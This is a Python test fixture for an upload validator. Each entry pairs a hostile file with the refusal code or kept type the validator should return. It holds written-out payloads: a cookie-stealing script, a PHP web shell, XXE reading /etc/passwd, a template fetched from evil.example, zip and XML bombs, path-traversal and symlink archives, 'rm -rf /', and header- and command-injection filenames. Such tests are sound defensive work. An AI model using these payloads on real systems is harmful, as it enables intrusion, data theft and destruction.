"""Files that mean harm, or look as if: each with why it is refused, or as what harmless thing it is kept."""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from zipfile import ZipFile, ZipInfo

from tests.attachments.samples import (
    DOCX_TYPES,
    ODT,
    WORDS,
    container,
    docx,
    odt,
    pdf,
    phone_picture,
    picture,
)

MEGA = 1024 * 1024
NO_FILE = "no_file"  # the form does not carry one
SCRIPT = b"<script>alert(document.cookie)</script>"
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
LOL = b'<!DOCTYPE l [<!ENTITY a "lol">' + b'<!ENTITY b "&a;&a;&a;">' * 20 + b"]><w:document>&b;</w:document>"
EXTERNAL = b'<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document>&x;</w:document>'
TEMPLATE = (
    b'<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
    b"</Relationships>"
)
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
PROGRAM = b"MZ\x90\0" + bytes(200)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
JAVASCRIPT = b"100 0 obj\n<</S/JavaScript/JS(app.alert\\(1\\))>>\nendobj\n"
EMBEDDED = (
    b"100 0 obj\n<</Type/Filespec/F(a.exe)/EF<</F 101 0 R>>>>\nendobj\n"
    b"101 0 obj\n<</Length 2>>stream\nMZ\nendstream\nendobj\n"
)
SCRIPTED = b"/Names<</JavaScript<</Names[(a)100 0 R]>>>>"
CARRYING = b"/Names<</EmbeddedFiles<</Names[(a)100 0 R]>>>>"


def _huge_heic() -> bytes:
    """A few bytes that say they are 65 535 pixels wide and high, and that nothing of that is cut off."""
    size = b"ispe" + bytes(4)  # what it is called, and its version; then come width and height
    before, _, after = phone_picture().replace(b"clap", b"free", 1).partition(size)
    return before + size + struct.pack(">II", 65_535, 65_535) + after[8:]


@dataclass(frozen=True)
class Hostile:
    """One upload: the name and type that it comes with; refused with this code, or kept as this kind."""

    name: str
    content: Callable[[], bytes]
    refused: str = ""
    kept: str = ""
    says: str = "application/pdf"


def _huge_png() -> bytes:
    """A few bytes that say they are 60 000 pixels wide and high."""
    head = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    chunk = b"IHDR" + head
    return (
        b"\x89PNG\r\n\x1a\n"
        + struct.pack(">I", len(head))
        + chunk
        + struct.pack(">I", zlib.crc32(chunk))
        + struct.pack(">I", 0)
        + b"IEND"
        + struct.pack(">I", zlib.crc32(b"IEND"))
    )


def _lying_docx() -> bytes:
    """A member that unpacks to 200 MB while the directory promises a hundred bytes."""
    out = io.BytesIO()
    with ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", DOCX_TYPES)
        archive.writestr("word/document.xml", WORDS)
        archive.writestr(ZipInfo("word/bomb.txt"), b"0" * 100)
    lied = out.getvalue()
    packed = zlib.compressobj(9, zlib.DEFLATED, -15)
    bomb = packed.compress(bytes(200 * MEGA)) + packed.flush()
    at = lied.index(b"PK\x03\x04", lied.index(b"word/bomb.txt") - 40)
    head = bytearray(lied[at : at + 30])
    head[8:10] = struct.pack("<H", 8)
    directory = lied.index(b"PK\x01\x02")
    entry = bytearray(lied[directory:])
    last = entry.rindex(b"PK\x01\x02")
    entry[last + 10 : last + 12] = struct.pack("<H", 8)
    entry[last + 20 : last + 24] = struct.pack("<I", len(bomb))
    head[18:22] = struct.pack("<I", len(bomb))
    end = entry.rindex(b"PK\x05\x06")
    body = lied[:at] + bytes(head) + b"word/bomb.txt" + bomb
    entry[end + 16 : end + 20] = struct.pack("<I", len(body))
    return body + bytes(entry)


def _link_in_docx() -> bytes:
    out = io.BytesIO()
    with ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", DOCX_TYPES)
        archive.writestr("word/document.xml", WORDS)
        link = ZipInfo("word/passwd")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return out.getvalue()


def _locked_docx() -> bytes:
    content = bytearray(docx())
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = content.index(mark) + at
        content[place] |= 1
    return bytes(content)


def _many_members() -> bytes:
    return docx(**{f"word/{number}.txt": b"x" for number in range(1_200)})


UPLOADS = {
    "a page of HTML called PDF": Hostile("a.pdf", lambda: b"<html>" + SCRIPT, kept="txt"),
    "a page of HTML that begins as a PDF": Hostile("a.html", lambda: b"%PDF-1.7\n" + SCRIPT, "file_broken"),
    "a PDF with a page of HTML behind it": Hostile(
        "a.html", lambda: pdf() + SCRIPT, kept="pdf", says="text/html"
    ),
    "a PDF with something before it": Hostile("a.pdf", lambda: b"GIF89a\0" + pdf(), "file_kind"),
    "a PDF with an archive behind it": Hostile("a.pdf", lambda: pdf() + docx(), kept="pdf"),
    "a PDF that runs a script when it opens": Hostile(
        "a.pdf", lambda: pdf(catalog=SCRIPTED, more=JAVASCRIPT), "file_programs"
    ),
    "a PDF with a program in it": Hostile(
        "a.pdf", lambda: pdf(catalog=CARRYING, more=EMBEDDED), "file_programs"
    ),
    "a PDF without an end": Hostile("a.pdf", lambda: pdf()[:40], "file_broken"),
    "a picture with a script in its comment": Hostile(
        "a.jpg", lambda: picture(comment=SCRIPT), kept="jpg", says="text/html"
    ),
    "a picture with an archive behind it": Hostile("a.jpg", lambda: picture() + docx(), kept="jpg"),
    "a picture that is a program of another server": Hostile(
        "a.php", lambda: picture("PNG") + b"<?php system($_GET[0]);", kept="png", says="application/x-php"
    ),
    "a picture of 3.6 thousand million pixels": Hostile("a.png", _huge_png, "file_bomb", says="image/png"),
    "a picture that ends too early": Hostile("a.jpg", lambda: picture(size=(600, 400))[:700], "file_broken"),
    "a picture of a phone that ends too early": Hostile(
        "a.heic", lambda: phone_picture()[:500], "file_broken", says="image/heic"
    ),
    "a picture of a phone with an archive behind it": Hostile(
        "a.heic", lambda: phone_picture() + docx(), kept="jpg", says="image/heic"
    ),
    "a picture of a phone that says it is 4 thousand million pixels": Hostile(
        "a.heic", _huge_heic, "file_bomb", says="image/heic"
    ),
    "a GIF called PNG": Hostile("a.png", lambda: picture("GIF"), "file_kind", says="image/png"),
    "a drawing with a script": Hostile("a.svg", lambda: SVG, kept="txt", says="image/svg+xml"),
    "two endings": Hostile("faktura.pdf.exe", lambda: PROGRAM, "file_kind"),
    "a program called PDF": Hostile("a.pdf", lambda: PROGRAM, "file_kind"),
    "a shell script": Hostile("a.txt", lambda: b"#!/bin/sh\nrm -rf /\n", kept="txt", says="text/x-sh"),
    "an old Office file": Hostile("a.doc", lambda: OLE, "file_kind", says="application/msword"),
    "a Word document with macros": Hostile(
        "a.docx", lambda: docx(**{"word/vbaProject.bin": OLE}), "file_programs"
    ),
    "a macro document by its own word": Hostile(
        "a.docx",
        lambda: container(
            {"[Content_Types].xml": DOCX_TYPES.replace(b"main+xml", b"x+xml"), "word/document.xml": WORDS}
        ),
        "file_kind",
    ),
    "a Word document with a program in it": Hostile(
        "a.docx", lambda: docx(**{"word/media/image1.png": PROGRAM}), "file_programs"
    ),
    "a Word document that fetches its template": Hostile(
        "a.docx", lambda: docx(**{"word/_rels/settings.xml.rels": TEMPLATE}), "file_programs"
    ),
    "a thousand million laughs": Hostile("a.docx", lambda: docx(**{"word/styles.xml": LOL}), "file_bomb"),
    "XML that reads other files": Hostile("a.odt", lambda: odt({"styles.xml": EXTERNAL}), "file_bomb"),
    "an archive of 200 MB in 200 kB": Hostile(
        "a.docx", lambda: docx(**{"word/a.txt": bytes(200 * MEGA)}), "file_bomb"
    ),
    "an archive that lies about how much it holds": Hostile("a.docx", _lying_docx, "file_broken"),
    "an archive in an archive": Hostile("a.odt", lambda: odt({"Object 1": docx()}), "file_programs"),
    "an archive of twelve hundred files": Hostile("a.docx", _many_members, "file_bomb"),
    "an archive that leads out": Hostile(
        "a.docx", lambda: docx(**{"../../etc/cron.d/x": b"x"}), "file_broken"
    ),
    "an archive with a link": Hostile("a.docx", _link_in_docx, "file_broken"),
    "a locked archive": Hostile("a.docx", _locked_docx, "file_locked"),
    "an OpenDocument with macros": Hostile(
        "a.odt", lambda: odt({"Basic/Standard/a.xml": b"<x/>"}), "file_programs"
    ),
    "a plain archive": Hostile("a.docx", lambda: container({"a.txt": b"x"}), "file_kind"),
    "an OpenDocument table called text": Hostile(
        "a.odt",
        lambda: container({"mimetype": ODT.replace(b"text", b"spreadsheet"), "content.xml": WORDS}),
        "file_kind",
    ),
    "text that steers a terminal": Hostile(
        "a.txt", lambda: b"\x1b]0;owned\x07", "file_kind", says="text/plain"
    ),
    "text that is no UTF-8": Hostile(
        "a.txt", lambda: "frånvaro".encode("latin-1"), "file_kind", says="text/plain"
    ),
    "what every scanner knows": Hostile("a.com", lambda: EICAR, kept="txt"),
    "nothing at all": Hostile("a.pdf", lambda: b"", "file_empty"),
    "too much": Hostile("a.txt", lambda: b"a" * (10 * MEGA + 1), "file_too_large", says="text/plain"),
    "a name that leads out": Hostile("../../instance/config.toml", lambda: b"text", kept="txt"),
    "a name of several lines": Hostile("a.pdf%0D%0AX-Evil: yes%0D%0A%0D%0A<script>", pdf, kept="pdf"),
    "a name that breaks out of its line": Hostile("a.pdf\r\nX-Evil: yes\r\n\r\n<script>", pdf, NO_FILE),
    "a name with a null": Hostile("a.pdf\0.exe", pdf, kept="pdf"),
    "a name that would be a formula or a command": Hostile(
        "=cmd|' /C calc'!A0;`id`.txt", lambda: b"x", kept="txt"
    ),
    "a name of ten thousand signs": Hostile("å" * 10_000 + ".pdf", pdf, kept="pdf"),
}
